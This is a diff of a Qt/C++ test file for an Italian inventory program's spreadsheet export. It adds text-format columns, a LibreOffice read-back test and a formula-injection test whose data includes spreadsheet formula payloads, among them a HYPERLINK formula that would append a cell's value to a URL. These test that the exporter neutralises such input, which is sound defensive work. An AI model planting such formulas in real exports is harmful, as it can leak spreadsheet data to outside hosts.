@@ -9,20 +9,26 @@
 #include "records/MovementRecord.h"
 #include "records/ProductRecord.h"
 #include "records/SupplierRecord.h"
+#include "storage/Cp1252.h"
 #include "storage/Record.h"
 #include "storage/RecordFile.h"
 
 #include <QAbstractItemModelTester>
 #include <QDir>
 #include <QFile>
+#include <QFileInfo>
+#include <QHash>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QProcess>
 #include <QRandomGenerator>
 #include <QTest>
+#include <QUrl>
 
 using Kind = ArchiveId;
+
+using namespace Qt::StringLiterals;
 
 Q_DECLARE_METATYPE(ArchiveId)
 Q_DECLARE_METATYPE(Record)
@@ -46,7 +52,8 @@ QByteArray head(const QByteArray &sheetName)
           "<x:ActiveRow>3</x:ActiveRow></x:Pane></x:Panes>"
           "<x:ProtectContents>False</x:ProtectContents><x:ProtectObjects>False</x:ProtectObjects>"
           "<x:ProtectScenarios>False</x:ProtectScenarios></x:WorksheetOptions>"
-          "</x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook></xml><![endif]--></head>"
+          "</x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook></xml><![endif]-->"
+          "<style>.t{mso-number-format:\"\\@\";}</style></head>"
           "<body><table x:str>";
 }
 
@@ -119,18 +126,44 @@ QByteArray right(const QByteArray &text)
     return "<td style=\"text-align: right;\">" + text + "</td>";
 }
 
+// A left-aligned cell marked as text (identifiers, phone numbers, postcodes).
+QByteArray text(const QByteArray &text)
+{
+    return "<td class=t style=\"text-align: left;\">" + text + "</td>";
+}
+
+// The columns marked as text, by the exporter's column count: products (23), customers
+// (25), suppliers (22).
+QList<int> textColumns(int count)
+{
+    switch (count) {
+    case 23: // Codice articolo, Recapito preferenziale
+        return { 0, 7 };
+    case 25: // Codice fiscale, Partita IVA, Recapito, Tel. casa and cellulare, IBAN,
+             // Numero documento, Codice Cliente
+        return { 1, 4, 7, 8, 9, 12, 17, 21 };
+    case 22: // Recapito, CAP, the four phone and fax numbers, Codice fiscale, Partita IVA,
+             // Carta di credito n., IBAN
+        return { 2, 5, 7, 8, 9, 10, 12, 13, 14, 16 };
+    }
+    return {};
+}
+
 // A data row of left-aligned cells: the given ones first, then empty ones up to count.
 QByteArray leftRow(const QList<QByteArray> &cells, int count)
 {
     QByteArray row = "<tr>";
-    for (int i = 0; i < count; ++i)
-        row += left(i < cells.size() ? cells[i] : QByteArray());
+    const QList<int> texts = textColumns(count);
+    for (int i = 0; i < count; ++i) {
+        const QByteArray cell = i < cells.size() ? cells[i] : QByteArray();
+        row += texts.contains(i) ? text(cell) : left(cell);
+    }
     return row + "</tr>";
 }
 
 QByteArray emptyMovementRow()
 {
-    return "<tr>" + left({}) + left({}) + left({}) + left({}) + left({}) + left({}) + right({})
+    return "<tr>" + left({}) + left({}) + text({}) + left({}) + left({}) + left({}) + right({})
         + right({}) + left({}) + "</tr>";
 }
 
@@ -246,6 +279,36 @@ QList<QStringList> htmlRows(const QString &path)
     return rows;
 }
 
+// LibreOffice's command line program (libreoffice-calc-nogui), which opens the .xls files
+// exactly as the user's spreadsheet program would.
+const QString kSoffice = QStringLiteral("/usr/bin/soffice");
+
+// The .xls files at paths as LibreOffice reads them, converted by it to .xlsx in one run
+// and then read by openpyxl, by path; empty when the conversion fails.
+QHash<QString, QJsonObject> readByLibreOffice(
+    const TempProgramFolder &folder, const QStringList &paths)
+{
+    QProcess soffice;
+    // A profile of its own, so that a running LibreOffice or another test never shares it.
+    soffice.start(kSoffice,
+        QStringList { QStringLiteral("-env:UserInstallation=")
+                + QUrl::fromLocalFile(folder.filePath(QStringLiteral("lo-profile"))).toString(),
+            QStringLiteral("--headless"), QStringLiteral("--convert-to"), QStringLiteral("xlsx"),
+            QStringLiteral("--outdir"), folder.filePath(QStringLiteral("lo")) }
+            + paths);
+    if (!soffice.waitForFinished(180000) || soffice.exitCode() != 0) {
+        qWarning().noquote() << soffice.readAllStandardError();
+        return {};
+    }
+    QHash<QString, QJsonObject> books;
+    for (const QString &path : paths) {
+        const QString converted = folder.filePath(
+            QStringLiteral("lo/") + QFileInfo(path).completeBaseName() + QStringLiteral(".xlsx"));
+        books.insert(path, runPython(QString::fromLatin1(kXlsxReader), { converted }).object());
+    }
+    return books;
+}
+
 } // namespace
 
 class TestExportFiles : public QObject
@@ -271,10 +334,14 @@ private slots:
     void saveFailureLeavesPrevious();
     void readOnlyFolderKeepsPrevious();
 
+    void formulaTextStaysText_data();
+    void formulaTextStaysText();
     void cellNumber_data();
     void cellNumber();
     void xlsxReadBack();
     void xlsxOfEmptyArchive();
+    void xlsReadByLibreOffice_data();
+    void xlsReadByLibreOffice();
 };
 
 void TestExportFiles::initTestCase()
@@ -420,10 +487,10 @@ void TestExportFiles::fileBytes_data()
         movement(QStringLiteral("06/03/2021"), QStringLiteral("09:00:00"),
             QStringLiteral("ART-002"), QStringLiteral("10"), QStringLiteral("0,0450"), QString()),
     };
-    const QByteArray moveRows = "<tr>" + left("05/03/2021") + left("10:15:00") + left("ART-001")
+    const QByteArray moveRows = "<tr>" + left("05/03/2021") + left("10:15:00") + text("ART-001")
         + left("Pneumatici") + left("Pirelli") + left("P Zero") + right("4") + right("85,50")
         + left("consegna") + "</tr>" + "<tr>" + left("06/03/2021") + left("09:00:00")
-        + left("ART-002") + left("Pneumatici") + left("Pirelli") + left("P Zero") + right("10")
+        + text("ART-002") + left("Pneumatici") + left("Pirelli") + left("P Zero") + right("10")
         + right("0,0450") + left("") + "</tr>";
     QTest::newRow("loads, two movements")
         << Kind::Loads << moves << QList<Edit> {}
@@ -697,7 +764,8 @@ void TestExportFiles::saveFailureLeavesPrevious()
 }
 
 // A program folder the user may not write: both saves fail and the earlier files stay as
-// they were. Root may write anywhere, so there the case cannot be made.
+// they were. Root may write anywhere: there the storage layer's fault hook refuses the new
+// file as such a folder does.
 void TestExportFiles::readOnlyFolderKeepsPrevious()
 {
     TempProgramFolder folder;
@@ -714,13 +782,16 @@ void TestExportFiles::readOnlyFolderKeepsPrevious()
     if (probe.open(QIODevice::WriteOnly)) {
         probe.close();
         probe.remove();
-        QFile::setPermissions(folder.path(), writable);
-        QSKIP("this user may write into a read-only folder");
+        RecordFile::setFaultHook([](RecordFile::IoStep step) {
+            return step == RecordFile::IoStep::ReplaceCommit ? RecordFile::IoFault::Fail
+                                                             : RecordFile::IoFault::None;
+        });
     }
     const ExportGrid grid = ExportGrid::fromRecords(Export::exporter(Kind::Products),
         { product({ { ProductRecord::Codice, QStringLiteral("A") } }) });
     const bool xls = SpreadsheetHtml::save(dir.filePath(QStringLiteral("Magazzino.xls")), grid);
     const bool xlsx = SpreadsheetXlsx::save(dir.filePath(QStringLiteral("Magazzino.xlsx")), grid);
+    RecordFile::setFaultHook({});
     QFile::setPermissions(folder.path(), writable);
     QVERIFY(!xls);
     QVERIFY(!xlsx);
@@ -728,6 +799,46 @@ void TestExportFiles::readOnlyFolderKeepsPrevious()
     QCOMPARE(folder.readAll(QStringLiteral("Magazzino.xlsx")), QByteArray("previous"));
     QCOMPARE(dir.entryList(QDir::Files | QDir::Hidden),
         (QStringList { QStringLiteral("Magazzino.xls"), QStringLiteral("Magazzino.xlsx") }));
+}
+
+// A cell a spreadsheet program would take for a formula gets the apostrophe that keeps
+// it text, stored or edited; numbers, signed amounts among them, stay as they are.
+void TestExportFiles::formulaTextStaysText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("marked");
+    QTest::newRow("formula") << QStringLiteral("=1+1") << true;
+    QTest::newRow("link formula") << QStringLiteral("=HYPERLINK(\"http://x\"&A3;\"Apri\")") << true;
+    QTest::newRow("at sign") << QStringLiteral("@SUM(A1)") << true;
+    QTest::newRow("plus text") << QStringLiteral("+A1") << true;
+    QTest::newRow("minus text") << QStringLiteral("-A1*2") << true;
+    QTest::newRow("negative amount") << QStringLiteral("-12,50") << false;
+    QTest::newRow("signed count") << QStringLiteral("+5") << false;
+    QTest::newRow("a lone dash") << QStringLiteral("-") << false;
+    QTest::newRow("equals inside") << QStringLiteral("A=B") << false;
+    QTest::newRow("plain text") << QStringLiteral("Pirelli") << false;
+}
+
+void TestExportFiles::formulaTextStaysText()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, marked);
+    QCOMPARE(SpreadsheetHtml::needsTextMark(Cp1252::encode(text)), marked);
+    QByteArray cell
+        = Cp1252::encode(text).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
+    if (marked)
+        cell.prepend('\'');
+    const QByteArray opening = "<td style=\"text-align: left;\">";
+    // Stored in the archive.
+    const ExportGrid stored = ExportGrid::fromRecords(Export::exporter(Kind::Products),
+        { product({ { ProductRecord::Codice, QStringLiteral("A") },
+            { ProductRecord::Tipologia, text } }) });
+    QVERIFY(SpreadsheetHtml::text(stored).contains(opening + cell + "</td>"));
+    // Typed into an editable column of the grid.
+    ExportGrid typed = ExportGrid::fromRecords(Export::exporter(Kind::Products),
+        { product({ { ProductRecord::Codice, QStringLiteral("A") } }) });
+    typed.setText(0, 5, text);
+    QVERIFY(SpreadsheetHtml::text(typed).contains(opening + cell + "</td>"));
 }
 
 void TestExportFiles::cellNumber_data()
@@ -834,6 +945,72 @@ void TestExportFiles::xlsxOfEmptyArchive()
     QCOMPARE(rows.size(), 1);
     QCOMPARE(rows[0].toArray()[6].toArray()[0].toString(), QStringLiteral("Pezzi scaricati"));
     QCOMPARE(QDir(folder.path()).entryList(QDir::Files), QStringList { "Registro_Scarico.xlsx" });
+}
+
+// The three sample files LibreOffice opens, one per kind of archive, converted in one run
+// (LibreOffice takes seconds to start): each file's rows as openpyxl reads them.
+QHash<Kind, QJsonArray> libreOfficeSamples(const TempProgramFolder &folder)
+{
+    const RecordLayout &customer = CustomerRecord::layout();
+    const RecordLayout &supplier = SupplierRecord::layout();
+    const QList<std::pair<Kind, Record>> samples = {
+        { Kind::Customers,
+            recordOf(customer,
+                { { "Cognome", QStringLiteral("Verdi") }, { "Iva", QStringLiteral("07970600156") },
+                    { "TelCel", QStringLiteral("0331234567") },
+                    { "Codice", QStringLiteral("0042") } }) },
+        { Kind::Suppliers,
+            recordOf(supplier,
+                { { "Ditta", QStringLiteral("Ferramenta") }, { "CapRes", QStringLiteral("00100") },
+                    { "PartitaIva", QStringLiteral("01234567897") },
+                    { "Carta", QStringLiteral("4111111111111111") },
+                    { "Fax", QStringLiteral("0612345678") } }) },
+        { Kind::Products, product({ { ProductRecord::Codice, QStringLiteral("000123") } }) },
+    };
+    QStringList paths;
+    for (const auto &[kind, record] : samples) {
+        const Export::Exporter &exporter = Export::exporter(kind);
+        paths << folder.filePath(exporter.fileName.toString());
+        if (!SpreadsheetHtml::save(paths.last(), ExportGrid::fromRecords(exporter, { record })))
+            return {};
+    }
+    const QHash<QString, QJsonObject> books = readByLibreOffice(folder, paths);
+    QHash<Kind, QJsonArray> rows;
+    for (qsizetype i = 0; i < samples.size(); ++i)
+        rows.insert(samples[i].first, books.value(paths[i]).value(u"rows").toArray());
+    return rows;
+}
+
+// Identifier, phone and postcode cells are opened by LibreOffice as text with every
+// leading zero and digit.
+void TestExportFiles::xlsReadByLibreOffice_data()
+{
+    QTest::addColumn<Kind>("kind");
+    QTest::addColumn<int>("column");
+    QTest::addColumn<QString>("text"); // as stored and as read back, type text
+    QTest::newRow("customer VAT number") << Kind::Customers << 4 << u"07970600156"_s;
+    QTest::newRow("customer mobile") << Kind::Customers << 9 << u"0331234567"_s;
+    QTest::newRow("customer code") << Kind::Customers << 21 << u"0042"_s;
+    QTest::newRow("supplier postcode") << Kind::Suppliers << 5 << u"00100"_s;
+    QTest::newRow("supplier VAT number") << Kind::Suppliers << 13 << u"01234567897"_s;
+    QTest::newRow("supplier card number") << Kind::Suppliers << 14 << u"4111111111111111"_s;
+    QTest::newRow("supplier fax") << Kind::Suppliers << 10 << u"0612345678"_s;
+    QTest::newRow("product code") << Kind::Products << 0 << u"000123"_s;
+}
+
+void TestExportFiles::xlsReadByLibreOffice()
+{
+    QFETCH(Kind, kind);
+    QFETCH(int, column);
+    QFETCH(QString, text);
+    QVERIFY2(QFile::exists(kSoffice), "LibreOffice (libreoffice-calc-nogui) reads the file back");
+    static const TempProgramFolder folder;
+    static const QHash<Kind, QJsonArray> samples = libreOfficeSamples(folder);
+    const QJsonArray rows = samples.value(kind);
+    QCOMPARE(rows.size(), 2);
+    const QJsonArray cell = rows[1].toArray()[column].toArray();
+    QCOMPARE(cell[0].toString(), text);
+    QCOMPARE(cell[1].toString(), QStringLiteral("s"));
 }
 
 QTEST_APPLESS_MAIN(TestExportFiles)
